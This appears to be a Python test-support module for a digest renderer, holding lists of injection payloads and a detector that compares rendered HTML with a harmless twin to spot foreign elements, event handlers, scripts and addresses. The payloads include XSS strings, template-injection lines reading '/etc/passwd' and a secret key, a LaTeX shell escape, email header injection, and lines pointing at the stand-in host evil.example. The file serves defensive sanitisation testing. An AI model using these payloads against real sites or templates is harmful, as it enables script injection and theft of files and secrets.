"""Texts made to do harm, written for these tests, and the eye that sees whether one succeeded."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

from digest.render.paper_card import MARK

MARKUP = [
    "<script>alert(1)</script>",
    "</title></textarea></style><script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>press</a>",
    "<a href='java\tscript:alert(1)'>press</a>",
    "<a href='&#106;avascript:alert(1)'>press</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>press</a>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/p)}</style>",
    "<p style='background:url(https://evil.example/p.png)'>seen</p>",
    "<div style=position:fixed;inset:0 onclick=alert(1)>all of it</div>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template><noscript><img src=x></noscript>",
    "<!--<script>--><script>alert(1)</script><!--[if mso]><b onclick=x><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "`onmouseover=alert(1)`",
    "x\" style=\"background:url(//evil.example)\" y=\"",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#x3C;/script&#x3E",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</scr\u00adipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<mj-text><mj-raw><mj-include path='/etc/passwd' /></mj-raw></mj-text>",
    "{{ settings.SECRET_KEY }} {% include '/etc/passwd' %} {# gone #} {{ 7|add:7 }}",
    "{% load static %}{% debug %}{# cut:card #}${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
    r"\href{javascript:alert(1)}{press} \input{/etc/passwd} \write18{ls} $\def\x{\x\x}\x$",
    "\ue000place\ue001\ue000unsubscribe_url\ue001\ue002",
]  # fmt: skip
CHARACTERS = [
    "line\r\nBcc: victim@example.org\r\n\r\nbody",
    "line\nX-Evil: 1", "line\rX-Evil: 1", "a\x00b", "a\x1b[31mred\x07", "a\x85b\u2028c\u2029d",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "\ud800 \udfff lone", "\ufeff\ufffe\uffff\ufdd0",
    "W" * 3000, "é" * 700, "&" * 900, "<" * 900, "a" + "\u0301" * 400, "👩\u200d" * 300, "ﷺ" * 200,
]  # fmt: skip
ATTACKS = MARKUP + CHARACTERS
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)//https://example.org/", " javascript:alert(1)",
    "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "file:///etc/passwd",
    "//evil.example/x", "https://", "http:\\\\evil.example",
    "https://example.org/\" onclick=\"alert(1)",
    "https://example.org/<script>alert(1)</script>", "https://example.org/\r\nX-Evil:%201",
    "https://example.org/{{ 7|add:7 }}", "https://[::1", "https://example.org:99999999/",
    "mailto:a@example.org",
    "https://example.org/\ue000place\ue001", "ftp://example.org/", "https://exa mple.org/",
]  # fmt: skip

ADDRESS_ATTRIBUTES = {
    *("href", "src", "srcset", "action", "formaction", "data", "background", "poster", "ping"),
    *("xlink:href", "cite", "longdesc", "usemap", "manifest", "codebase", "srcdoc"),
}
CONTROL = re.compile(
    "[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)


@dataclass
class Seen(HTMLParser):
    """The elements, attributes and addresses of a document."""

    html: str
    elements: set[tuple[str, str]] = field(default_factory=set)  # tag, attribute ("" for none)
    addresses: set[str] = field(default_factory=set)
    scripts: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._script: dict[str, str | None] | None = None
        self.feed(self.html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements |= {(tag, name) for name, _ in attrs} | {(tag, "")}
        self.addresses |= {v or "" for name, v in attrs if name in ADDRESS_ATTRIBUTES}
        if tag == "script":
            self._script = dict(attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self.scripts.append(data)
            if "json" in (self._script.get("type") or ""):
                json.loads(data)


def harm(html: str, harmless: str, known: set[str]) -> list[str]:
    """What a document holds that its harmless twin does not; `known` are the entry's own links.

    The twin shows the same kinds of things, so a new element, a new attribute or an address that
    is neither ours nor the entry's came out of a text.
    """
    # A mark is where a word was found, a wbr where one was too long for a line.
    seen, twin = Seen(html.replace(MARK, "<mark>")), Seen(harmless)
    foreign = seen.elements - twin.elements - {("mark", ""), ("wbr", "")}
    ours = {
        a
        for a in seen.addresses
        if re.match(r"https?://testserver/|http://localhost:8000/|[/?#](?!/)", a)
    }
    strange = seen.addresses - ours - twin.addresses - known
    scripts = [s for s in seen.scripts if s.strip() and "json" not in html]
    handlers = [e for e in seen.elements if e[1].startswith("on")]
    said = [f"foreign {e}" for e in foreign] + [f"address {a!r}" for a in strange]
    return said + [f"handler {h}" for h in handlers] + [f"script {s!r}" for s in scripts]
